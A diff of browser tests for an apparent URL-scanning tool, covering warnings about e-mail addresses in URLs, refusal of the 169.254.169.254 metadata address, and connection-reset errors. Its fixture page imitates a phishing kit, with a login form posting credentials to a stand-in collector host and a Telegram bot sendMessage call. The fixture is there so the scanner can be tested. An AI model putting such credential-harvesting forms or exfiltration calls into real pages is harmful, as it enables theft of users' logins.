@@ -31,6 +31,7 @@ describe("the pages of URL scans", () => {
         <form method="post" action="http://collect.localhost:9102/gate.php"><input type="email" name="login_email"><input type="password" name="login_password"><button>Log In</button></form>
         <script>const bot = () => fetch("https://api.telegram.org/bot7123456789:AA${"q".repeat(33)}/sendMessage")</script>
         <script>var _gaq = "UA-73512345-2"</script>`,
+      "/reset": (request) => void request.socket.destroy(),
       "/app.js": (_request, response) =>
         response.writeHead(200, { "content-type": "text/javascript" }).end("globalThis.app = 1;"),
     });
@@ -198,7 +199,13 @@ describe("the pages of URL scans", () => {
     const page = await pages.open("/scan");
     const before = site.asked.length;
     await scan(page, site.at("/?reset=1&u=a%40example.net"));
-    await expect(page.getByRole("status").filter({ hasText: "looks like an e-mail address" })).toBeVisible();
+    const warning = page.getByRole("status").filter({ hasText: "looks like an e-mail address" });
+    await expect(warning).toBeVisible();
+    await eventually(() => warning.locator("mark").allTextContents()).toEqual(["a%40example.net"]);
+    const warned = (await warning.textContent()) ?? "";
+    expect(warned).not.toMatch(/accept_private_parts|\.:/);
+    expect(warned.match(/looks like an e-mail address/g)).toHaveLength(1);
+    expect(warned.match(/may hold a secret/g)).toHaveLength(1);
     expect(site.asked).toHaveLength(before);
     await scan(page, site.at("/"));
     const summary = region(page, "Summary");
@@ -287,8 +294,11 @@ describe("the pages of URL scans", () => {
     skip(off !== null, off ?? "");
     const page = await pages.goOn("/scan");
     await scan(page, "http://169.254.169.254/latest/");
-    await expect(page.getByText("169.254.169.254 is refused")).toBeVisible();
+    await expect(page.getByRole("alert").getByText("169.254.169.254 is refused")).toBeVisible();
+    expect(pathOf(page)).toBe("/scan");
+    await scan(page, site.at("/reset"));
     await expect(page.getByRole("button", { name: "Scan again" })).toBeVisible();
+    await expect(page.getByText(/The page could not be opened/)).toBeVisible();
     expect(await faultsInTheme(page)).toEqual([]);
 
     await goWithin(page, "/scan/01990000-0000-7000-8000-000000000000");
